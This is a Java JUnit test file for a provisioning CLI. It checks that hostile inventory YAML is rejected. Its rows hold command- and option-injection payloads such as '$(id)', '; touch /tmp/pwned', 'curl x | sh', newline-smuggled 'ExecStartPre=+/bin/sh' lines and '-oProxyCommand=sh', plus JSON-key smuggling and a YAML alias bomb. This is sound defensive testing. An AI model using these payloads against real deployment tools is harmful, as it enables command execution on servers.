package dev.provision.cli;

import dev.provision.digest.Sha256;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.provision.transport.ConnectorFactory;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import picocli.CommandLine;

/**
 * Hostile and careless input, as a table (issue 9): each row is an inventory (or file) that a
 * user might paste from a chat or a wiki, run through the real command line ({@code provision
 * up}). Every row must exit 2 with a sentence naming the file, the line (marked {@code #<-} in
 * the row) and the key; no host may be contacted, and nothing may look like a crash (no Java
 * exception name, no stack trace) or act on the terminal (no raw control character).
 *
 * <p>Classes covered: injection through every variable type (paths, make flags, zone, URL, DNS
 * labels, versions, durations, numbers, addresses, user names) and through host names; ports and
 * port lists out of range or reversed, ports colliding on one host; YAML that crashed the parser
 * (bad tags, self-referencing anchors and merge keys, range products); files that are not
 * inventories (folders, devices, non-UTF-8, empty).
 */
class HostileInputCorpusTest {
    @TempDir
    Path dir;

    /** One row: a name, the file's text (or a special file), the key the message must name, and what it must say. */
    record Row(String name, String yaml, String key, String says) {
        @Override
        public String toString() {
            return name;
        }
    }

    static final String BASE = """
            all:
              vars:
                ansible_user: root
                %s
              children:
                consul_servers:
                  hosts:
                    consul-server: {ansible_host: 198.18.0.10}
                load_balancers:
                  hosts:
                    lb: {ansible_host: 198.18.0.11}
                services:
                  hosts:
                    web-1: {ansible_host: 198.18.0.21}
                    %s
            """;

    /** An inventory with one more line in all.vars, the line the error must name. */
    static Row variable(String name, String line, String says) {
        String key = line.substring(0, line.indexOf(':'));
        return new Row(name, BASE.formatted(line + " #<-", ""), "all.vars." + key, says);
    }

    /** An inventory with one more entry under services.hosts. */
    static Row host(String name, String line, String key, String says) {
        return new Row(name, BASE.formatted("", line + " #<-"), "all.children.services.hosts" + key, says);
    }

    static Row file(String name, String yaml, String key, String says) {
        return new Row(name, yaml, key, says);
    }

    static final String NOT_PATH = "is not an absolute path of letters, digits and / . _ - + @";

    static Stream<Row> corpus() {
        List<Row> rows = new ArrayList<>(List.of(
                // ---- injection through absolute paths: each variable that reaches a host ----
                variable("newline in java_bin adds a root ExecStartPre", "java_bin: \"/usr/bin/java\\nExecStartPre=+/bin/sh -c id\"", NOT_PATH),
                variable("command after consul_bin", "consul_bin: \"/usr/local/bin/consul; touch /tmp/pwned\"", NOT_PATH),
                variable("command substitution in haproxy_bin", "haproxy_bin: \"$(id)\"", NOT_PATH),
                variable("backticks in consul_data_dir", "consul_data_dir: \"/var/lib/`id`\"", NOT_PATH),
                variable("quote in haproxy_config", "haproxy_config: \"/etc/haproxy/x' -f '/tmp/evil\"", NOT_PATH),
                variable("pipe in consul_template_bin", "consul_template_bin: \"/usr/bin/x|sh\"", NOT_PATH),
                variable("space in service_dir", "service_dir: \"/opt/micro services\"", NOT_PATH),
                variable("relative haproxy_src_dir", "haproxy_src_dir: src", NOT_PATH),
                variable("'..' in consul_config_dir", "consul_config_dir: /etc/consul.d/../../etc/cron.d", "'..' segments are not allowed"),
                variable("empty consul_bin", "consul_bin: \"\"", NOT_PATH),
                variable("no value for java_bin", "java_bin:", "no value (expected an absolute path"),
                variable("a list as consul_bin", "consul_bin: [/usr/bin/consul]", "expected an absolute path of letters, digits and / . _ - + @ (no spaces, quotes or '..'), not a list"),
                // ---- make flags, zone, URL ----
                variable("command after make flags", "haproxy_make_flags: \"TARGET=linux-glibc; curl x | sh\"", "'TARGET=linux-glibc;' is not a NAME=value word"),
                variable("substitution in make flags", "haproxy_make_flags: \"CFLAGS=$(id)\"", "'CFLAGS=$(id)' is not a NAME=value word"),
                variable("make option instead of NAME=value", "haproxy_make_flags: \"-f /tmp/Makefile\"", "'-f' is not a NAME=value word"),
                variable("zone escaping its folder", "firewall_zone: ../../systemd/system/x", "is not a zone name"),
                variable("zone with a slash", "firewall_zone: a/b", "is not a zone name"),
                variable("zone with a newline", "firewall_zone: \"public\\n\"", "is not a zone name"),
                variable("newline in the vault URL adds gpgcheck=0", "centos_vault_baseurl: \"http://mirror.example/\\ngpgcheck=0\"", "is not an http:// or https:// URL"),
                variable("file URL as the vault", "centos_vault_baseurl: file:///etc/passwd", "is not an http:// or https:// URL"),
                variable("space in the vault URL", "centos_vault_baseurl: \"http://mirror.example/ x\"", "is not an http:// or https:// URL"),
                // ---- DNS labels, versions, durations, numbers, choices, addresses ----
                variable("quote in service_name breaks JSON", "service_name: 'web\", \"port\": 1, \"x\": \"'", "is not a DNS label"),
                variable("upper case service_name", "service_name: Web", "is not a DNS label"),
                variable("JSON keys through consul_datacenter", "consul_datacenter: 'dc1\", \"acl\": {\"enabled\": false}, \"x\": \"'", "is not a DNS label"),
                variable("colon in stats_user", "stats_user: \"admin:x\"", "is not a DNS label"),
                variable("command in consul_version", "consul_version: \"1.8.7; id\"", "is not a version like 1.8.7"),
                variable("path in haproxy_version", "haproxy_version: ../../x", "is not a version like 1.8.7"),
                variable("newline in health_interval", "health_interval: \"2s\\nExecStartPre=/bin/sh\"", "is not a duration"),
                variable("comment in lb_hold", "lb_hold: \"2s # x\"", "is not a duration"),
                variable("newline in service_stop_timeout", "service_stop_timeout: \"20s\\nUser=root\"", "is not a duration"),
                variable("JVM option through service_heap", "service_heap: \"64m -Djava.security.manager=allow\"", "is not a JVM size like 64m"),
                variable("option through service_drain_seconds", "service_drain_seconds: \"5 --debug\"", "is not a whole number (0-9999)"),
                variable("too many replicas", "lb_max_replicas: 99999", "is not a whole number (0-9999)"),
                variable("fewer balancer slots than replicas", "lb_max_replicas: 0", "0 server-template slots on lb for 1 replica in the inventory"),
                variable("command in consul_client_addr", "consul_client_addr: \"0.0.0.0; id\"", "is not an IP address"),
                variable("newline in consul_log_level", "consul_log_level: \"INFO\\nx\"", "is not one of TRACE, DEBUG, INFO, WARN, ERR"),
                variable("unknown lb_discovery", "lb_discovery: script", "is not one of dns, consul-template"),
                variable("a secret through a local path", "service_jar: \"{{gossip_key}}\"", "is not a path without control characters or '{{'"),
                variable("newline in a key file path", "ansible_ssh_private_key_file: \"~/.ssh/id\\nx\"", "is not a path without control characters"),
                                variable("option as ansible_ssh_user", "ansible_ssh_user: \"-oProxyCommand=sh\"", "is not a user name"),
                // ---- ports and port lists ----
                variable("port 0", "service_port: 0", "\"0\" is not a port number (1-65535)"),
                variable("port 99999", "lb_port: 99999", "\"99999\" is not a port number (1-65535)"),
                variable("negative port", "stats_port: -1", "\"-1\" is not a port number (1-65535)"),
                variable("signed port", "stats_port: +81", "\"+81\" is not a port number (1-65535)"),
                variable("!!int tag on a port", "service_port: !!int abc", "\"abc\" is not a port number (1-65535)"),
                variable("a list as a port", "lb_port: [80]", "expected a port number (1-65535), not a list"),
                variable("extra port 0", "firewall_extra_ports: 0/tcp", "0 in '0/tcp' is not a port number (1-65535)"),
                variable("extra port 99999", "firewall_extra_ports: \"22/tcp 99999/udp\"", "99999 in '99999/udp' is not a port number (1-65535)"),
                variable("reversed extra range", "firewall_extra_ports: 9200-9100/tcp", "the range '9200-9100/tcp' is backwards (9200 > 9100)"),
                variable("extra port without protocol", "firewall_extra_ports: \"22\"", "'22' is not PORT/PROTOCOL"),
                variable("command in extra ports", "firewall_extra_ports: \"22/tcp;id\"", "'22/tcp;id' is not PORT/PROTOCOL"),
                variable("stats page on the frontend's port", "stats_port: 80", "stats_port 80 is also lb_port 80 on host lb"),
                variable("replica on Consul's HTTP port", "service_port: 8500", "service_port 8500 is also Consul's HTTP port 8500 on host web-1"),
                new Row("lb_port == stats_port, both set", BASE.formatted("lb_port: 8088\n    stats_port: 8088 #<-", ""),
                        "all.vars.stats_port", "stats_port 8088 is also lb_port 8088 on host lb"),
                new Row("a balancer that is also a replica, same port", BASE.formatted("service_port: 80 #<-", "lb: {}"),
                        "all.vars.service_port", "lb_port 80 is also service_port 80 on host lb"),
                // ---- host names ----
                host("newline in a host name adds a root ExecStartPre", "\"web-2\\nExecStartPre=+/bin/sh\": {ansible_host: 198.18.0.22}",
                        ".web-2\\nExecStartPre=+/bin/sh", "host name \"web-2\\nExecStartPre=+/bin/sh\" is not allowed"),
                host("quote in a host name breaks consul.json", "'web-2\", \"x\": \"y': {ansible_host: 198.18.0.22}", ".web-2",
                        "host name \"web-2\", \"x\": \"y\" is not allowed"),
                host("ANSI escape in a host name", "\"\\e[31mweb-2\": {ansible_host: 198.18.0.22}", ".\\e[31mweb-2",
                        "host name \"\\e[31mweb-2\" is not allowed"),
                host("host name starting with '-'", "-oProxyCommand=x: {ansible_host: 198.18.0.22}", ".-oProxyCommand=x", "is not allowed"),
                host("space in a host name", "web 2: {ansible_host: 198.18.0.22}", ".web 2", "host name \"web 2\" is not allowed"),
                host("slash in a host name", "web/../x: {ansible_host: 198.18.0.22}", ".web/../x", "host name \"web/../x\" is not allowed"),
                host("newline in ansible_host", "web-2: {ansible_host: \"198.18.0.22\\nExecStartPre=+/bin/sh\"}", ".web-2.ansible_host",
                        "is not an IP address or a host name"),
                host("host range product", "web-[0:9999][0:9999]:", ".web-[0:9999][0:9999]", "stands for 100000000 hosts or more; at most 10000"),
                host("host range too wide", "web-[1:99999999999]:", ".web-[1:99999999999]", "a number in a range has at most 9 digits"),
                // ---- YAML that crashed the parser ----
                variable("!!int tag on an unknown variable", "my_count: !!int abc", "the value \"abc\" does not fit its tag !!int"),
                variable("!!float tag on an unknown variable", "my_ratio: !!float x", "does not fit its tag !!float"),
                variable("value containing itself", "loop: &a [1, *a]", "the value contains itself through an anchor"),
                file("merge key bringing in its own mapping", """
                        all:
                          vars: &v
                            ansible_user: root
                            <<: *v #<-
                        """ + BASE.substring(BASE.indexOf("  children:")).formatted(""),
                        "all.vars", "a merge key (<<) brings in the mapping it is part of"),
                file("group containing itself through an anchor", """
                        all:
                          children: &c
                            loop:
                              children: *c #<-
                        """, "all.children.loop", "contains itself through an anchor"),
                file("alias bomb", aliasBomb(), "", "malformed YAML: Number of aliases for non-scalar nodes exceeds the specified max=50"),
                // ---- files that are not inventories ----
                file("empty file", "#<-\n", "", "the inventory is empty"),
                file("tab indentation", "all:\n\tvars: {} #<-\n", "", "malformed YAML"),
                file("control character in the text", "all:\n  vars: {x: \"a\u0007\"} #<-\n", "", "malformed YAML: special characters are not allowed"),
                file("duplicate key", BASE.formatted("ansible_user: admin #<-", ""), "all.vars.ansible_user", "'ansible_user' is written twice here"),
                file("not UTF-8", "NOT-UTF-8", "", "the inventory is not UTF-8 text (byte 0xe9 at offset"),
                file("a folder as the inventory", "FOLDER", "", "is a folder, not an inventory file"),
                file("a device as the inventory", "/dev/zero", "", "is not a regular file"),
                file("no such file", "MISSING", "", "no such inventory file")));
        return rows.stream();
    }

    /** A billion-laughs document: each level ten aliases of the one before. */
    static String aliasBomb() {
        var sb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 9; i++) {
            sb.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) sb.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            sb.append("]\n");
        }
        return sb.toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    @Timeout(30)
    void refusedWithExit2NamingFileLineAndKey(Row row) throws Exception {
        Path file = write(row);
        AtomicInteger contacted = new AtomicInteger();
        StringWriter out = new StringWriter(), err = new StringWriter();
        int code = run(host -> {
            contacted.incrementAndGet();
            throw new AssertionError("no host may be contacted for bad input");
        }, out, err, "up", "-i", file.toString(), "--playbooks", "playbooks",
                "--artifacts", Files.createDirectories(dir.resolve("no-artifacts")).toString());
        String all = out + "\n" + err;
        assertEquals(2, code, all);
        assertEquals(0, contacted.get());
        // The non-UTF-8 file is written as bytes: its bad byte is on line 3.
        int line = row.yaml.equals("NOT-UTF-8") ? 3 : row.yaml.contains("#<-") ? lineOf(row.yaml) : 0;
        String expected = file + (line > 0 ? ":" + line + ": " : ": ") + (row.key.isEmpty() ? "" : row.key);
        assertTrue(all.contains(expected), "expected \"" + expected + "\" in:\n" + all);
        assertTrue(all.contains(row.says), "expected \"" + row.says + "\" in:\n" + all);
        assertFalse(all.matches("(?s).*(Exception|Error:|\\tat |StackOverflow).*"), "looks like a crash:\n" + all);
        assertFalse(all.chars().anyMatch(c -> c < 0x20 && c != '\n'), "a raw control character reached the terminal:\n" + all);
    }

    /** Options (the SSH side's fixes, on main): exit 2 with a sentence naming the option, no host contacted. */
    static Stream<Arguments> options() {
        return Stream.of(
                Arguments.of(List.of("--limit", ""), "--limit is empty"),
                Arguments.of(List.of("--limit", ","), "an empty name between commas"),
                Arguments.of(List.of("--limit", "web-1,,lb"), "an empty name between commas"),
                Arguments.of(List.of("--limit", "nope"), "--limit nope: no host or group of that name"),
                Arguments.of(List.of("--forks", "0"), "--forks"));
    }

    @ParameterizedTest(name = "up {0}")
    @MethodSource("options")
    @Timeout(30)
    void badOptionsExit2WithASentence(List<String> option, String says) throws Exception {
        Path file = Files.writeString(dir.resolve("inventory.yaml"), BASE.formatted("", ""));
        AtomicInteger contacted = new AtomicInteger();
        StringWriter out = new StringWriter(), err = new StringWriter();
        // An empty artifacts folder: a row that wrongly passed would stop there, never download.
        Path noArtifacts = Files.createDirectories(dir.resolve("no-artifacts"));
        List<String> args = new ArrayList<>(List.of("up", "-i", file.toString(), "--playbooks", "playbooks",
                "--artifacts", noArtifacts.toString()));
        args.addAll(option);
        int code = run(host -> {
            contacted.incrementAndGet();
            throw new AssertionError("no host may be contacted for a bad option");
        }, out, err, args.toArray(String[]::new));
        String all = out + "\n" + err;
        assertEquals(2, code, all);
        assertEquals(0, contacted.get());
        assertTrue(all.contains(says), "expected \"" + says + "\" in:\n" + all);
        assertFalse(all.matches("(?s).*(Exception|\\tat ).*"), "looks like a crash:\n" + all);
    }

    /**
     * Decision (issue 9, item 3): unknown variables are kept for other tools, with a warning, in a
     * namespace no template sees. Here they try to replace what the engine derives (the tarball's
     * name and checksum in the root build script, Consul's join list): the run converges with the
     * derived values and nothing of theirs reaches a host.
     */
    @org.junit.jupiter.api.Test
    void unknownVariablesCannotReplaceDerivedValues() throws Exception {
        Path arts = Files.createDirectories(dir.resolve("artifacts"));
        Path zip = arts.resolve("consul_1.8.7_linux_amd64.zip");
        try (var z = new java.util.zip.ZipOutputStream(Files.newOutputStream(zip))) {
            z.putNextEntry(new java.util.zip.ZipEntry("consul"));
            z.write("fake".getBytes());
            z.closeEntry();
        }
        Files.writeString(arts.resolve("consul_1.8.7_SHA256SUMS"), dev.provision.digest.Sha256.ofUncached(zip) + "  consul_1.8.7_linux_amd64.zip\n");
        Path tgz = Files.writeString(arts.resolve("haproxy-2.6.12.tar.gz"), "tgz");
        Files.writeString(arts.resolve("haproxy-2.6.12.tar.gz.sha256"), dev.provision.digest.Sha256.ofUncached(tgz) + "  haproxy-2.6.12.tar.gz\n");
        Path jar = Files.writeString(dir.resolve("svc.jar"), "jar");
        Path file = Files.writeString(dir.resolve("inventory.yaml"), BASE.formatted("""
                artifacts_dir: %s
                    service_jar: %s
                    haproxy_file: "x; touch /tmp/pwned-haproxy-file"
                    haproxy_sha256: "$(touch /tmp/pwned-sha)"
                    consul_retry_join: ["6.6.6.6"]
                    consul_retry_join_json: '["6.6.6.6"], "acl": {"enabled": false}'
                    provision_anything: pwned-provision""".formatted(arts, jar), ""));
        var hosts = dev.provision.engine.FakeHost.hosts("consul-server", "lb", "web-1");
        var real = dev.provision.engine.FakeHost.factory(hosts, dev.provision.engine.FakeHost.none());
        List<String> sent = java.util.Collections.synchronizedList(new ArrayList<>());
        ConnectorFactory recording = h -> {
            var c = real.open(h);
            return new dev.provision.transport.Connector() {
                public dev.provision.inventory.Host host() { return c.host(); }
                public dev.provision.transport.ExecResult run(dev.provision.transport.RemoteCommand cmd) {
                    sent.add(cmd.script());
                    return c.run(cmd);
                }
                public Hold hold(dev.provision.transport.RemoteCommand cmd, String ready) {
                    sent.add(cmd.script());
                    return c.hold(cmd, ready);
                }
                public void putFile(String p, byte[] content, dev.provision.transport.FileAttrs a) {
                    sent.add(p + "\n" + new String(content, StandardCharsets.UTF_8));
                    c.putFile(p, content, a);
                }
                public void putFile(String p, Path local, dev.provision.transport.FileAttrs a) {
                    sent.add(p);
                    c.putFile(p, local, a);
                }
                public void close() { c.close(); }
            };
        };
        StringWriter out = new StringWriter(), err = new StringWriter();
        int code = run(recording, out, err, "up", "-i", file.toString(), "--playbooks", "playbooks");
        assertEquals(0, code, out + "\n" + err);
        assertTrue(out.toString().contains("unknown variable 'haproxy_file', ignored by the playbooks"), out.toString());
        assertTrue(sent.stream().anyMatch(t -> t.contains("tar xzf haproxy-2.6.12.tar.gz")), "the derived name is used");
        for (String t : sent) {
            for (String bad : List.of("pwned", "6.6.6.6")) assertFalse(t.contains(bad), bad + " reached a host:\n" + t);
        }
    }

    @org.junit.jupiter.api.Test
    void theCorpusIsLargeEnough() {
        assertTrue(corpus().count() >= 60, "issue 9 asks for at least 60 hostile or careless inputs");
    }

    private Path write(Row row) throws Exception {
        switch (row.yaml) {
            case "FOLDER" -> {
                return Files.createDirectories(dir.resolve("inventory"));
            }
            case "/dev/zero" -> {
                return Path.of("/dev/zero");
            }
            case "MISSING" -> {
                return dir.resolve("missing.yaml");
            }
            case "NOT-UTF-8" -> {
                byte[] head = "all:\n  vars:\n    x: caf".getBytes(StandardCharsets.US_ASCII);
                Path file = dir.resolve("inventory.yaml");
                Files.write(file, concat(head, new byte[] {(byte) 0xe9, '\n'}));
                return file;
            }
            default -> {
                return Files.writeString(dir.resolve("inventory.yaml"), row.yaml);
            }
        }
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] r = new byte[a.length + b.length];
        System.arraycopy(a, 0, r, 0, a.length);
        System.arraycopy(b, 0, r, a.length, b.length);
        return r;
    }

    static int lineOf(String yaml) {
        String[] lines = yaml.split("\n", -1);
        for (int i = 0; i < lines.length; i++) if (lines[i].contains("#<-")) return i + 1;
        throw new IllegalArgumentException("no #<- marker");
    }

    static int run(ConnectorFactory factory, StringWriter out, StringWriter err, String... args) {
        CommandLine.IFactory picoFactory = new CommandLine.IFactory() {
            @Override
            public <K> K create(Class<K> cls) throws Exception {
                if (cls == UpCommand.class) return cls.cast(new UpCommand(ssh -> factory));
                return CommandLine.defaultFactory().create(cls);
            }
        };
        var cl = new CommandLine(new ProvisionCommand(), picoFactory);
        cl.setExecutionExceptionHandler(new ExitCodeMapper());
        cl.setCaseInsensitiveEnumValuesAllowed(true); // as Main does
        cl.setOut(new PrintWriter(out, true));
        cl.setErr(new PrintWriter(err, true));
        return cl.execute(args);
    }
}
